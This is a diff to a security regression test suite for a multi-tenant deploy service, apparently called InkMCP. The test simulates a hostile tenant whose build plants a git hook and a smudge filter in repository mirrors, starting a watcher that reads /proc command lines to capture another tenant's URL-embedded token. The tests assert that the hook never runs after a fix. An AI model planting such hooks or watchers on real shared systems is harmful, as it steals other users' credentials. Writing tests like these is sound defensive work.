@@ -106,7 +106,10 @@ def bare_copy(src: Path, dest: Path) -> Path:
 
 # mallory's build step: find her project's mirrors beside the build caches and plant a hook in each. The hook (run
 # by InkMCP's next `git fetch` into the mirror) notes where it runs and starts a watcher that reads every command
-# line in /proc for a minute, keeping those with an `@` (URL userinfo) in them.
+# line in /proc for a minute, keeping those with an `@` (URL userinfo) in them. Since redteam4 #7 (92bd004) the
+# mirrors are out of her sandbox's reach (an empty tmpfs, mode 000, over them): the step notes whether it could
+# plant ("$report/planted") and leaves its hook and smudge scripts in $report, and the tests plant them as root
+# (`plant_as_root`), so that InkMCP's git is still shown to ignore what a mirror holds.
 PLANT = r'''
 set -e
 report="$HOME/hook-report"
@@ -141,10 +144,7 @@ cat > "$report/smudge.sh" <<EOF
 { id -u; cat /proc/self/cgroup; grep ' /proc ' /proc/self/mountinfo; } > "$report/smudge.txt" 2>&1
 exec cat
 EOF
-for m in "$mirrors"/*; do
-  git config --file "$m/config" filter.evil.smudge "sh $report/smudge.sh"
-  mkdir -p "$m/hooks"
-  cat > "$m/hooks/reference-transaction" <<EOF
+cat > "$report/hook" <<EOF
 #!/bin/sh
 cat > /dev/null
 mkdir "$report/ran" 2>/dev/null || exit 0
@@ -152,10 +152,40 @@ mkdir "$report/ran" 2>/dev/null || exit 0
 setsid python3 "$report/watch.py" "$report" < /dev/null > /dev/null 2>&1 &
 exit 0
 EOF
-  chmod 755 "$m/hooks/reference-transaction"
-done
-echo planted
+chmod 755 "$report/hook"
+if (
+  for m in "$mirrors"/*; do
+    git config --file "$m/config" filter.evil.smudge "sh $report/smudge.sh"
+    mkdir -p "$m/hooks"
+    cp "$report/hook" "$m/hooks/reference-transaction"
+  done
+) 2>/dev/null; then echo planted > "$report/planted"; else echo unreachable > "$report/planted"; fi
 '''
+
+READ_PLANT = r'''
+import os
+report = os.path.join(os.environ["HOME"], "hook-report")
+result = {"report": report, "mirrors": open(os.path.join(report, "mirrors")).read().strip(),
+          "planted": open(os.path.join(report, "planted")).read().strip()}
+'''
+
+
+def plant_as_root(server: ServerProc, lab_url: str, *, hook: bool = False, smudge: bool = False) -> None:
+    """What mallory's build could do before 92bd004, done by the test as root: her hook into each of her mirrors'
+    hooks dir, or her smudge command into their config. Her own attempt must have failed (the mirrors are hidden)."""
+    seen = lab_exec(server, lab_url, READ_PLANT)
+    assert seen["planted"] == "unreachable", f"mallory's build reached her mirrors: {seen}"
+    report, mirrors = Path(seen["report"]), [m for m in Path(seen["mirrors"]).iterdir() if (m / "config").exists()]
+    assert mirrors and (report / "hook").exists(), seen
+    for m in mirrors:
+        if smudge:
+            subprocess.run(["git", "config", "--file", str(m / "config"), "filter.evil.smudge",
+                            f"sh {report}/smudge.sh"], check=True)
+        if hook:
+            (m / "hooks").mkdir(exist_ok=True)
+            (m / "hooks" / "reference-transaction").write_bytes((report / "hook").read_bytes())
+            (m / "hooks" / "reference-transaction").chmod(0o755)
+
 
 READ_REPORT = r'''
 import os
@@ -188,6 +218,7 @@ async def test_git_hooks_in_the_tenants_mirror_never_run(server: ServerProc, rep
     (InkMCP fetches into the mirror), then alice deploys a private repo with a token in its URL. The hook must not
     run: before the fix it did, outside mallory's sandbox, and its watcher read alice's token from /proc."""
     repo = labs["mallory_repo"]
+    plant_as_root(server, labs["mallory"]["url"], hook=True)
     git_commit(repo, {"again.txt": "redeploy\n"})
     async with session(server, "mallory") as m:
         await deploy_live(m, repo_url=str(repo), project_name=MALLORY, start_command=LAB_START,
@@ -207,7 +238,7 @@ async def test_git_hooks_in_the_tenants_mirror_never_run(server: ServerProc, rep
     expected = "Basic " + base64.b64encode(f"alice:{ALICE_TOKEN}".encode()).decode()
     assert auth and set(auth) == {expected}, auth
     seen = lab_exec(server, labs["mallory"]["url"], READ_REPORT)
-    assert seen["mirrors"][0] == "ok", seen  # the plant step ran and found the mirrors
+    assert seen["mirrors"][0] == "ok", seen  # the plant step ran and named the mirrors
     assert ALICE_TOKEN not in str(seen), f"mallory read alice's token: {seen['cmdlines']}"
     assert seen["hook.txt"][0] == "ENOENT", f"mallory's hook ran in InkMCP's git fetch: {seen}"
 
@@ -217,6 +248,7 @@ async def test_filter_drivers_in_the_tenants_mirror_never_run(server: ServerProc
     she redeploys a commit over 16 MiB (checked out with `git archive`, which applies filter drivers). Her smudge
     command must not run: before the fix it did, as her user but outside her sandbox (InkMCP's cgroup, host /proc)."""
     repo = labs["mallory_repo"]
+    plant_as_root(server, labs["mallory"]["url"], smudge=True)
     git_commit(repo, {"notes.txt": "mallory notes v2\n"})
     async with session(server, "mallory") as m:
         await deploy_live(m, repo_url=str(repo), project_name=MALLORY, start_command=LAB_START,
